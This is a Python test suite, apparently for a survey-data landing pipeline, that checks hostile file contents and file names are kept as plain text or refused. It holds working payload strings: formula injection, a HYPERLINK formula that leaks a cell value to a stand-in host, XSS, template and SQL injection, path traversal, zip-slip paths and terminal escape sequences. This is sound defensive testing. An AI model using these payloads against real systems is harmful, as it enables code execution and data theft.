"""What somebody might put into a file to do harm: it lands as plain text or is refused by name, and nothing runs."""

from __future__ import annotations

import io
import json
import os
import unicodedata
import zipfile
from collections.abc import Callable
from pathlib import Path
from subprocess import CompletedProcess
from typing import Any

import duckdb
import pytest
import xlsxwriter

from orchestration.landing.evidence import open_original
from orchestration.landing.receipts import Receipt, Shelf
from tests.conftest import JANUARY, LandingHome
from tests.e2e.made import RESPONSES, csv_of, xlsx_of

Candex = Callable[..., "CompletedProcess[str]"]
TIME = "2019-07-05 09:00"
GOOD = csv_of(RESPONSES, ("good", "exit", TIME, "Kost", 9))

TEXTS = {
    "link": '=HYPERLINK("http://example.org/?x="&A1,"klicka")',
    "command": "=cmd|'/c calc'!A1",
    "plus": "+46+cmd|'/c calc'!A1",
    "minus": "-2+3+cmd|'/c calc'!A1",
    "at": "@SUM(1+1)*cmd|'/c calc'!A1",
    "script": "<script>alert('x')</script>",
    "image": "<img src=x onerror=alert(1)>",
    "braces": "{{ 7*7 }}",
    "statement": "{% for x in [].__class__.__mro__ %}{{ x }}{% endfor %}",
    "dollar": "${7*7}",
    "format": "{0.__class__} %s %(x)s",
    "sql": "Kost'); drop table organisations;--",
    "path": "../../../etc/passwd",
    "markup": "[red]Kost[/blue]",
    "null": "Ko\x00st",
    "backspace": "Kost\x08\x08\x08\x08Skola",
    "escape": "\x1b[31mKost\x1b[0m\x1b]0;titel\x07",
    "right to left": "\u202eloks\u202c",
    "marks": "Ko\u200fst\u2066x\u2069",
    "line end": "Kost\nSkola\r\nMiljö",
    "long name": "Förvaltningen för " + "lång" * 26,
    "a megabyte": "ord " * 250_000 + "slut",
    "emoji": "👩‍👩‍👧 Kost 🇸🇪",
    "astral": "𝕶𝖔𝖘𝖙",
    "combining": "K" + "o\u0301\u0327" * 50,
}
"""Texts in a department's name. Outer blanks apart, what is written is what is kept."""


JOINERS = "\u200c\u200d"


def is_plain(text: str) -> bool:
    """One line that a terminal shows as it is: no control, no direction, no half character; an emoji may be joined."""
    control = ("Cc", "Cf", "Cs", "Co", "Zl", "Zp")
    return not any(unicodedata.category(letter) in control and letter not in JOINERS for letter in text)


def in_order(home: LandingHome, receipt: Receipt, data: bytes) -> None:
    """What holds for every file: the receipt is kept and plain, and the bytes open again."""
    kept = Shelf(home.home.landing).attempts("provkommun", receipt.file_id)
    assert kept and kept[-1].messages == receipt.messages and kept[-1].status == receipt.status
    assert open_original(home.home, receipt.file_id) == data
    for message in [*receipt.messages, receipt.file_name]:
        assert is_plain(message), ascii(message)
        assert len(message) < 5_000
    with duckdb.connect() as connection:
        connection.execute("select count(*) from read_parquet(?)", [f"{home.home.raw}/survey_responses/*/*/*.parquet"])


def received(home: LandingHome, name: str, data: bytes | str) -> Receipt:
    written = data.encode() if isinstance(data, str) else data
    receipt = home.receive(name, written)
    in_order(home, receipt, written)
    return receipt


# Cells


def test_hostile_texts_in_a_csv_are_kept_as_written_and_nothing_is_told_of_them(landing_home: LandingHome) -> None:
    rows = [(kind, "exit", TIME, text, 9) for kind, text in TEXTS.items()]
    receipt = received(landing_home, "svar.csv", csv_of(RESPONSES, *rows))
    assert (receipt.status, receipt.rows_used, receipt.messages) == ("accepted", len(TEXTS), [])
    assert {row["response_id"]: row["department"] for row in landing_home.rows("survey_responses")} == TEXTS
    assert [row["answer"] for row in landing_home.rows("survey_answers")] == ["9"] * len(TEXTS)


@pytest.mark.parametrize("kind", ["null", "escape", "line end", "a megabyte", "right to left"])
def test_one_hostile_text_alone_in_a_csv_is_kept_as_written(landing_home: LandingHome, kind: str) -> None:
    receipt = received(landing_home, "svar.csv", csv_of(RESPONSES, ("r", "exit", TIME, TEXTS[kind], 9)))
    assert (receipt.status, receipt.rows_used, receipt.messages) == ("accepted", 1, [])
    assert [row["department"] for row in landing_home.rows("survey_responses")] == [TEXTS[kind]]


def test_hostile_texts_in_a_workbook_are_kept_as_written(landing_home: LandingHome) -> None:
    # what XML has no letter for, or a cell no room
    texts = {kind: text for kind, text in TEXTS.items() if kind not in ("null", "backspace", "escape", "a megabyte")}
    rows = [(kind, "exit", TIME, text, 9) for kind, text in texts.items()]
    receipt = received(landing_home, "svar.xlsx", xlsx_of(RESPONSES, *rows))
    assert (receipt.status, receipt.rows_used) == ("accepted", len(texts))
    kept = {
        row["response_id"]: row["department"].replace("\r\n", "\n") for row in landing_home.rows("survey_responses")
    }
    assert kept == {kind: text.replace("\r\n", "\n") for kind, text in texts.items()}


def test_hostile_texts_where_a_score_belongs_are_left_out_and_not_repeated(landing_home: LandingHome) -> None:
    rows = [(kind, "exit", TIME, "Kost", text) for kind, text in TEXTS.items()]
    receipt = received(landing_home, "svar.csv", csv_of(RESPONSES, *rows, ("good", "exit", TIME, "Kost", 9)))
    assert (receipt.status, receipt.rows_used, receipt.values_refused) == ("partly", len(TEXTS) + 1, len(TEXTS))
    [message] = receipt.messages
    assert not [text for text in TEXTS.values() if text[:40] in message]
    assert [row["response_id"] for row in landing_home.rows("survey_answers")] == ["good"]
    assert {row["value_class"] for row in landing_home.rows("refusals")} == {"text"}


NUMBERS = {
    "9" * 400: "not_whole", "9" * 18: "out_of_range", "-" + "9" * 200: "out_of_range", "1e309": "text", "NaN": "text",
    "Infinity": "text", "0x10": "text", "1_0": "text", "⑨": "text", "1e1": "text", "9.5": "not_whole",
}  # fmt: skip


def test_numbers_beyond_all_scales_are_no_scores(landing_home: LandingHome) -> None:
    rows = [(f"r{place}", "exit", TIME, "Kost", number) for place, number in enumerate(NUMBERS)]
    receipt = received(landing_home, "svar.csv", csv_of(RESPONSES, *rows))
    assert (receipt.rows_used, receipt.values_refused) == (len(NUMBERS), len(NUMBERS))
    assert landing_home.rows("survey_answers") == []
    refused = landing_home.rows("refusals", provenance=True)
    classes = {list(NUMBERS)[row["_source_row_number"] - 2]: row["value_class"] for row in refused}
    assert classes == NUMBERS


@pytest.mark.parametrize("value", ["9" * 400, "-" + "9" * 400, "1e400", "nan", "inf"])
def test_a_target_without_end_is_no_target(landing_home: LandingHome, value: str) -> None:
    sheet = csv_of(("metric", "stage", "department", "value", "from"), ("cnps", "exit", "kost", value, "2020-01-01"))
    receipt = received(landing_home, "mål.csv", sheet)
    assert (receipt.values_refused, [row["value"] for row in landing_home.rows("hr_targets")]) in (
        (1, [None]),
        (0, []),
    ), receipt
    assert value not in " ".join(receipt.messages)


def test_free_text_is_cut_where_nobody_reads_on(landing_home: LandingHome) -> None:
    comment = csv_of((*RESPONSES, "comment"), ("r", "exit", TIME, "Kost", 9, "ord " * 250_000))
    assert received(landing_home, "svar.csv", comment).status == "accepted"
    [kept] = [row["answer"] for row in landing_home.rows("survey_answers") if row["question_code"] == "comment"]
    assert 19_000 < len(kept) <= 20_000


# Headings


@pytest.mark.parametrize(
    "heading", ["Frå\x1b[31mga", "Frå\x00ga", "Frå\u202ega", "Frå\nga", "x" * 1_000_000, "{{ 7*7 }}", "[/red]", "a\x7f"]
)
def test_a_hostile_heading_is_refused_in_one_plain_sentence(landing_home: LandingHome, heading: str) -> None:
    landing_home.drop("good.csv", GOOD)
    receipt = received(landing_home, "svar.csv", csv_of((*RESPONSES, heading), ("r", "exit", TIME, "Kost", 9, 1)))
    assert (receipt.status, len(receipt.messages)) == ("refused", 1)
    # braces look like data, and data where headings belong is not repeated
    expected = "the header row is missing" if heading.startswith("{{") else "is unknown"
    assert expected in receipt.messages[0]
    assert [row["response_id"] for row in landing_home.rows("survey_responses")] == ["good"]


@pytest.mark.parametrize("folder", ["", "avslag/"])
@pytest.mark.parametrize("question", ["Nöjd? Frågor: hr@kommun.example", "Nöjd med ärende 123456?", 'Nöjd? ["ja"]'])
def test_a_heading_that_looks_like_a_value_is_a_heading_where_the_survey_says_so(
    landing_home: LandingHome, question: str, folder: str
) -> None:
    rows = [(question, "communication", "rejection"), ("ID", "@response_id", "")]
    names = ("heading", "question_code", "stage_id")
    landing_home.configure(
        "survey_questions", [{"survey_id": "avslag"} | dict(zip(names, r, strict=True)) for r in rows]
    )
    receipt = received(landing_home, f"{folder}svar.csv", csv_of(("Tidsstämpel", "ID", question), (TIME, 1, 4)))
    assert (receipt.status, receipt.messages) == ("accepted", [])


def test_ten_thousand_columns_are_refused_in_one_sentence(landing_home: LandingHome) -> None:
    names = [f"kolumn {number}" for number in range(10_000)]
    receipt = received(landing_home, "bred.csv", csv_of(names, range(10_000)))
    assert receipt.status == "refused" and "and 9988 more" in receipt.messages[0]


def test_ten_thousand_columns_beside_those_of_an_export_are_refused_in_one_sentence(landing_home: LandingHome) -> None:
    names = [*RESPONSES, *(f"kolumn {number}" for number in range(10_000))]
    receipt = received(landing_home, "bred.csv", csv_of(names, ("r", "exit", TIME, "Kost", 9, *range(10_000))))
    assert receipt.status == "refused" and "column 'kolumn 0' is unknown" in receipt.messages[0]


def test_a_header_without_rows_is_landed_as_nothing(landing_home: LandingHome) -> None:
    receipt = received(landing_home, "svar.csv", csv_of(RESPONSES))
    assert (receipt.status, receipt.rows_read, landing_home.rows("survey_responses")) == ("accepted", 0, [])
    assert "a header without rows" in receipt.messages[0]


# JSON


def application(**more: Any) -> dict[str, Any]:
    plain = {"id": 1, "candidate_id": 2, "applied_at": "2019-07-05T07:00:00Z", "last_activity_at": None}
    return plain | {"jobs": [{"id": 7}]} | more


SURROGATES = {
    "in a value": json.dumps([application(source={"public_name": "a\ud800b"})]),
    "in an id": json.dumps([application(id="1\udfff")]),
    "beside a whole emoji": json.dumps([application(source={"public_name": "👩\ud83d"})]),
    "in a reference": json.dumps([application(candidate_id="\ud800")]),
    "in a time": json.dumps([application(applied_at="2019-07-05T07:00:00Z\ud800")]),
    "in a key": json.dumps([{"id": 1, "rubri\ud800k": 2}]),
    "in a page's type": json.dumps({"data": [{"id": "1", "type": "jo\ud800bs"}]}),
    "in lines": "\n".join([json.dumps(application(source={"public_name": "\ud800"}))] * 2),
}


@pytest.mark.parametrize("place", SURROGATES)
def test_half_a_character_in_json_costs_no_more_than_itself(landing_home: LandingHome, place: str) -> None:
    landing_home.drop("good.csv", GOOD)
    receipt = received(landing_home, "svar.json", SURROGATES[place])
    is_known, is_dated = place not in ("in a key", "in a page's type"), place != "in a time"
    status = ("accepted" if is_dated else "partly") if is_known else "refused"
    assert (receipt.status, bool(receipt.messages)) == (status, status != "accepted")
    rows = landing_home.rows("applications")
    assert len(rows) == (0 if status != "accepted" else 2 if place == "in lines" else 1)
    assert all(is_plain(text) for row in rows for text in row.values() if isinstance(text, str))
    assert place != "in a value" or [row["source"] for row in rows] == ["a\ufffdb"]
    assert [row["response_id"] for row in landing_home.rows("survey_responses")] == ["good"]


@pytest.mark.parametrize("constant", ["NaN", "Infinity", "-Infinity"])
def test_a_number_that_json_does_not_have_refuses_the_file(landing_home: LandingHome, constant: str) -> None:
    document = json.dumps([application()]).replace('"id": 1', f'"id": {constant}')
    receipt = received(landing_home, "svar.json", document)
    assert receipt.status == "refused" and "impossible number" in receipt.messages[0]


@pytest.mark.parametrize("number", ["1e999", "-1e999", "9" * 5_000])
def test_a_number_without_end_in_json_is_never_an_id(landing_home: LandingHome, number: str) -> None:
    document = json.dumps([application()]).replace('"id": 1', f'"id": {number}')
    receipt = received(landing_home, "svar.json", document)
    assert receipt.status == "refused" and "impossible number" in receipt.messages[0]
    assert landing_home.rows("applications") == []


NESTED = {
    "lists": lambda depth: "[" * depth + "]" * depth,
    "objects": lambda depth: '{"a":' * depth + "1" + "}" * depth,
    "in a record": lambda depth: json.dumps([application(x=0)]).replace('"x": 0', f'"x": {"[" * depth}{"]" * depth}'),
    "objects in a record": lambda depth: json.dumps([application(x=0)]).replace(
        '"x": 0', f'"x": {"{" + chr(34) + "a" + chr(34) + ":"}' + '{"a":' * depth + "1" + "}" * depth + "}"
    ),
    "in a line": lambda depth: "\n".join([json.dumps(application()), '{"a":' * depth + "1" + "}" * depth]),
    "in a page": lambda depth: (
        '{"data": [{"id": "1", "type": "jobs", "attributes": {"created-at": ' + "[" * depth + "]" * depth + "}}]}"
    ),
}


@pytest.mark.parametrize("depth", [50, 900, 10_000, 100_000])
@pytest.mark.parametrize("shape", NESTED)
def test_deep_json_never_ends_the_landing(landing_home: LandingHome, shape: str, depth: int) -> None:
    landing_home.drop("good.csv", GOOD)
    receipt = received(landing_home, "svar.json", NESTED[shape](depth))
    if depth >= 10_000:
        assert receipt.status == "refused"
    if depth >= 10_000 and shape != "in a line":
        assert "nested too deep" in receipt.messages[0]
    assert [row["response_id"] for row in landing_home.rows("survey_responses")] == ["good"]


def test_a_key_that_stands_twice_in_an_object_refuses_the_file_by_the_key(landing_home: LandingHome) -> None:
    document = json.dumps([application()]).replace('"id": 1', '"id": 1, "id": 2')
    receipt = received(landing_home, "svar.json", document)
    assert receipt.status == "refused" and "holds 'id' twice" in receipt.messages[0]
    assert landing_home.rows("applications") == []


# Workbooks


def book_of(fill: Callable[[Any], None]) -> bytes:
    file = io.BytesIO()
    with xlsxwriter.Workbook(file, {"in_memory": True}) as book:
        sheet = book.add_worksheet()
        sheet.write_row(0, 0, RESPONSES)
        fill(sheet)
    return file.getvalue()


def test_a_formula_is_what_it_last_showed_and_is_never_worked_out(landing_home: LandingHome) -> None:
    def fill(sheet: Any) -> None:
        sheet.write_row(1, 0, ("r", "exit", TIME))
        sheet.write_formula(1, 3, '=WEBSERVICE("http://example.org/")', None, "Kost")
        sheet.write_formula(1, 4, "=1+1", None, 9)

    assert received(landing_home, "svar.xlsx", book_of(fill)).status == "accepted"
    assert [row["department"] for row in landing_home.rows("survey_responses")] == ["Kost"]
    assert [row["answer"] for row in landing_home.rows("survey_answers")] == ["9"]


@pytest.mark.parametrize("error", ["#N/A", "#DIV/0!", "#REF!", "#VALUE!", "#NAME?"])
def test_an_error_in_a_cell_is_no_value_of_any_kind(landing_home: LandingHome, error: str) -> None:
    def fill(sheet: Any) -> None:
        sheet.write_row(1, 0, ("r", "exit", TIME))
        sheet.write_formula(1, 3, "=NA()", None, error)
        sheet.write_formula(1, 4, "=NA()", None, error)
        sheet.write_row(2, 0, ("s", "exit", TIME, "Kost", 9))

    receipt = received(landing_home, "svar.xlsx", book_of(fill))
    assert (receipt.status, receipt.rows_used) == ("accepted", 2)
    [message] = receipt.messages
    assert "cells D2 and E2 hold an error" in message
    assert [row["response_id"] for row in landing_home.rows("survey_answers")] == ["s"]
    assert [row["department"] for row in landing_home.rows("survey_responses")] == [None, "Kost"]


def test_merged_cells_hold_their_value_in_the_first_and_nothing_in_the_others(landing_home: LandingHome) -> None:
    def fill(sheet: Any) -> None:
        for row, key in enumerate("rst", start=1):
            sheet.write_row(row, 0, (key, "exit", TIME))
            sheet.write(row, 4, 9)
        sheet.merge_range(1, 3, 3, 3, "Kost")

    assert received(landing_home, "svar.xlsx", book_of(fill)).status == "accepted"
    assert [row["department"] for row in landing_home.rows("survey_responses")] == ["Kost", None, None]


def test_a_heading_merged_over_two_columns_refuses_the_file(landing_home: LandingHome) -> None:
    def fill(sheet: Any) -> None:
        sheet.write_row(1, 0, ("r", "exit", TIME, "Kost", 9, 8))
        sheet.merge_range(0, 4, 0, 5, "recommend")

    receipt = received(landing_home, "svar.xlsx", book_of(fill))
    assert receipt.status == "refused" and "column 6 holds values but has no heading" in receipt.messages[0]


def test_a_sheet_called_by_a_hostile_name_is_told_in_one_plain_line(landing_home: LandingHome) -> None:
    wrong = [RESPONSES, ("r", "exit", TIME, "Kost", 11)]
    exits = [("employment_ref", "ended_at"), ("e1", "2019-08-01")]
    receipt = received(landing_home, "svar.xlsx", xlsx_of(*wrong, **{"{red}\u202eB": exits}))
    assert receipt.status == "partly" and len(receipt.messages) == 1


# Names of files

NAMES = {
    "a line end": b"sv\nar.csv",
    "an escape": b"sv\x1b[31mar\x1b]0;x\x07.csv",
    "a backspace": b"svar\x08\x08\x08\x08.csv",
    "a turned direction": "sv\u202evsc.ra.csv".encode(),
    "no UTF-8": b"sv\xff\xfe\xe5r.csv",
    "an emoji": "sv👩‍👩‍👧ar.csv".encode(),
    "markup": b"sv[red]ar[/blue].csv",  # a folder and a file
    "only markup": b"[/].csv",
    "braces": b"{{ 7*7 }}{% x %}.csv",
    "dots": b"svar..csv",
    "back slashes": b"a\\..\\svar.csv",
    "an option": b"--home=x.csv",
    "spaces": b"  svar  .csv",
    "length": "å".encode() * 120 + b".csv",
}


def drop(home: LandingHome, name: bytes, data: str, organisation: bytes = b"provkommun") -> None:
    LandingHome.write(home.home.inbox / os.fsdecode(organisation) / os.fsdecode(name), data.encode())


@pytest.mark.parametrize("data", [GOOD, "a,b\n1,2\n", GOOD.replace(",9", ",elva")], ids=["good", "unknown", "wrong"])
@pytest.mark.parametrize("kind", NAMES)
def test_a_file_of_any_name_lands_or_is_refused_as_what_it_holds(
    landing_home: LandingHome, kind: str, data: str
) -> None:
    drop(landing_home, NAMES[kind], data)
    [receipt] = [one for one in landing_home.land().receipts if one.organisation_id == "provkommun"]
    in_order(landing_home, receipt, data.encode())
    assert receipt.status == {GOOD: "accepted", "a,b\n1,2\n": "refused"}.get(data, "partly")
    assert all(path.is_relative_to(landing_home.home.root) for path in landing_home.home.root.rglob("*"))
    assert [is_plain(row["file_name"]) for row in landing_home.rows("source_files")] == [True, True]


@pytest.mark.parametrize("kind", list(NAMES))
def test_a_folder_of_any_name_is_refused_as_no_organisation(landing_home: LandingHome, kind: str) -> None:
    drop(landing_home, b"svar.csv", GOOD, NAMES[kind].removesuffix(b".csv"))
    [receipt] = [one for one in landing_home.land().receipts if one.organisation_id != "_config"]
    assert (receipt.status, receipt.organisation_id) == ("refused", "_none")
    assert "is no organisation" in receipt.messages[0] and is_plain(receipt.messages[0])


def zipped(**files: str) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return file.getvalue()


@pytest.mark.parametrize("name", ["sv\nar.csv", "sv\x1b[31mar.csv", "sv\u202evsc.ra.csv", "a/[red]/svar.csv"])
def test_a_file_in_an_archive_is_told_in_one_plain_line_whatever_its_name(landing_home: LandingHome, name: str) -> None:
    landing_home.drop("allt.zip", zipped(**{name: GOOD.replace(",9", ",elva")}))
    [receipt] = [one for one in landing_home.land().receipts if one.organisation_id == "provkommun"]
    in_order(landing_home, receipt, GOOD.replace(",9", ",elva").encode())
    assert (receipt.status, len(landing_home.rows("survey_responses"))) == ("partly", 1)


@pytest.mark.parametrize("name", ["../svar.csv", "a/../../svar.csv", "/etc/svar.csv", "..\\svar.csv", "C:/svar.csv"])
def test_an_archive_that_names_a_place_outside_itself_is_refused_whole(landing_home: LandingHome, name: str) -> None:
    receipt = received(landing_home, "allt.zip", zipped(**{"good.csv": GOOD, name: GOOD}))
    assert receipt.status == "refused" and "a place outside itself" in receipt.messages[0]
    assert landing_home.rows("survey_responses") == []


# The command


def told(done: CompletedProcess[str]) -> list[str]:
    return [line for line in (done.stdout + done.stderr).split("\n") if line]


def test_the_command_lands_a_hostile_inbox_with_exit_code_0_and_prints_plain_lines(
    landing_home: LandingHome, candex: Candex
) -> None:
    for number, name in enumerate(NAMES.values()):
        drop(landing_home, name, GOOD.replace("good", f"r{number}").replace(",9", ",elva"))
    landing_home.drop("texter.csv", csv_of(RESPONSES, *((k, "exit", TIME, t, t) for k, t in TEXTS.items())))
    landing_home.drop("djup.json", NESTED["objects"](10_000))
    done = candex("land", "--received-at", JANUARY.isoformat(), home=landing_home.home.root)
    assert done.returncode == 0, done.stderr
    lines = told(done)
    assert all(map(is_plain, lines)), [ascii(line) for line in lines if not is_plain(line)]
    about = [line for line in lines if line.strip().startswith("provkommun: ")]
    assert len(about) == len(NAMES) + 2, "a line for each message: of each name, of the texts, of the nested file"
    assert "Traceback" not in done.stderr
    [texts] = [line for line in about if "texter.csv" in line]
    assert not [text for text in TEXTS.values() if text[:40] in texts]


def test_the_command_exits_with_3_when_all_that_came_was_refused_and_prints_plain_lines(
    landing_home: LandingHome, candex: Candex
) -> None:
    for number, name in enumerate(NAMES.values()):
        drop(landing_home, name, f"a\x1b[31m{number},b\n1,2\n")
    drop(landing_home, b"svar.csv", GOOD, b"kommun\x1b[31m\xff\n")
    done = candex("land", "--received-at", JANUARY.isoformat(), home=landing_home.home.root)
    assert done.returncode == 3, done.stderr
    assert all(map(is_plain, told(done))), [ascii(line) for line in told(done) if not is_plain(line)]
    assert len([line for line in told(done) if " no known export has the header " in line]) == len(NAMES)


@pytest.mark.parametrize(("command", "code"), [("check", 3), ("new", 3)])
def test_looking_at_a_hostile_file_prints_plain_lines(tmp_path: Path, candex: Candex, command: str, code: int) -> None:
    file = tmp_path / "sv\x1b[31mar\n[/red].csv"
    text = "a\x1b[31m,submitted_at\x07,response_id,stage\n1,2,3,4\n" if command == "check" else 'a,b\n1,"\n'
    LandingHome.write(file, text.encode())
    done = candex("connector", command, str(file), home=tmp_path / "home")
    assert done.returncode == code, done.stdout + done.stderr
    assert told(done) and all(map(is_plain, told(done))), ascii(done.stdout + done.stderr)


def test_a_hostile_file_name_changes_nothing_outside_the_home(landing_home: LandingHome, tmp_path: Path) -> None:
    before = {path for path in tmp_path.rglob("*") if not path.is_relative_to(landing_home.home.root)}
    for name in NAMES.values():
        drop(landing_home, name, GOOD)
    landing_home.land()
    assert {path for path in tmp_path.rglob("*") if not path.is_relative_to(landing_home.home.root)} == before
